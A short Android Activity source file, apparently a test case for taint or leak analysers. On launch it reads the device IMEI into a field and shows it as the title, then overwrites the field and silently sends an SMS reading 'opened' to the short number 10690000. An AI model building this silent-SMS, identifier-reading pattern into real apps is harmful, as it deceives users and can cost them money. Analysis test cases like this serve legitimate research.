package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private static final class Holder {
        String text;
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        Holder holder = new Holder();
        holder.text = phone.getImei();
        setTitle(holder.text);
        holder.text = "opened";
        SmsManager.getDefault().sendTextMessage("10690000", null, holder.text, null, null);
    }
}
